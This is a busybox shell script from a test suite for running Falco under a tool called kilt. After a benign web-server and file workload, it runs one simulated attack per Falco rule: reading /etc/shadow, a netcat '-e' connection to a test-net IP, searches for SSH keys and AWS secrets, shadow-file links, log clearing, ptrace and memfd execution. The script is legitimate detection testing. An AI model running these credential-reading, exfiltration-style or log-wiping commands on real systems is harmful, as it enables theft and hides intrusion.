# The app of tests/falco/task.sh (busybox sh, run as /app.sh under kilt-run): a benign workload, then one
# attack step per default Falco rule. `kilt-attack mark LABEL` prints where each scenario starts (the test
# attributes each alert to the scenario whose time window holds the alert's syscall).
# Commands a rule looks at are run by their path: Debian's busybox sh runs its own applets through
# /proc/self/exe (FEATURE_SH_STANDALONE), which makes every proc.name "exe"; an Alpine image's sh does not.
set -u
mark() { kilt-attack mark "$1"; }

mark benign
# A web server under light load, and a package-free shell script: files written, read, listed, removed.
httpd -f -p 127.0.0.1:8080 -h /www &
web=$!
i=0
until wget -q -O /dev/null http://127.0.0.1:8080/index.html 2>/dev/null; do
  i=$((i + 1)); [ $i -gt 100 ] && break; sleep 0.05
done
i=0
while [ $i -lt 100 ]; do
  wget -q -O /dev/null http://127.0.0.1:8080/index.html
  i=$((i + 1))
done
kill $web; wait $web
mkdir -p /tmp/work && cd /tmp/work || exit 1
seq 1 500 > numbers
sort -rn numbers | head -5 > top
grep -c 7 numbers > sevens
cat top sevens /etc/hostname /etc/passwd > /dev/null
ls -la /etc /tmp/work > /dev/null
tar -cf /tmp/work.tar . && rm -r /tmp/work && cd / || exit 1
sha256sum /tmp/work.tar > /dev/null
echo "$(date) app started" >> /tmp/app.log

mark read-shadow;     /bin/cat /etc/shadow > /dev/null
mark netcat;          /bin/nc -e /bin/true 198.51.100.9 4444 2>/dev/null
mark find-keys;       /bin/find /root -name id_rsa
mark grep-aws;        /bin/grep -r aws_secret_access_key /root > /dev/null
mark symlink;         /bin/ln -s /etc/shadow /tmp/shadow-link
mark hardlink;        /bin/ln /etc/shadow /tmp/shadow-hardlink
mark clear-log;       : > /var/log/auth.log
mark shred;           /bin/shred -u /tmp/junk
mark packet-socket;   kilt-attack packet
mark redirect;        kilt-attack redirect
mark ptrace-attach;   kilt-attack ptrace-attach
mark ptrace-traceme;  kilt-attack traceme
mark dev-shm;         cp /bin/busybox /dev/shm/true && /dev/shm/true
mark drop-exec;       mkdir /tmp/new && cp /bin/busybox /tmp/new/true && /tmp/new/true
mark memfd;           kilt-attack memfd /bin/busybox true
mark traversal;       kilt-attack traverse /tmp/../../etc/passwd
mark shell-from-web;  /usr/sbin/nginx > /dev/null
mark k8s-api;         /bin/nc -w 1 198.51.100.8 443 < /dev/null 2>/dev/null
# A web server that has been up for more than 5 s reads /etc/shadow (a "trusted" program after startup).
mark trusted-later;   /usr/sbin/httpd 5
mark system-user;     /usr/sbin/sshd
mark ssh-port;        /usr/bin/ssh 198.51.100.7 443
# Falco dies (SIGKILL): kilt-run restarts it and re-sends the app's live processes to the new Falco, which must
# then see the app as before. The app waits until the old connection to the feed is gone and the new Falco is
# connected (the abstract socket @kilt-capture has its listener and one accepted connection in /proc/net/unix).
feed_ends() { grep -c '@kilt-capture$' /proc/net/unix; }
mark falco-restart;   kill -KILL "$(pidof falco)"
i=0; while [ "$(feed_ends)" -ge 2 ] && [ $i -lt 50 ]; do i=$((i + 1)); usleep 100000; done
i=0; while [ "$(feed_ends)" -lt 2 ] && [ $i -lt 600 ]; do i=$((i + 1)); usleep 100000; done
mark after-restart;   /bin/cat /etc/shadow > /dev/null
# The alerts have 2 s to reach stdout: keep the task up that long.
mark end;             sleep 2.5
exit 0
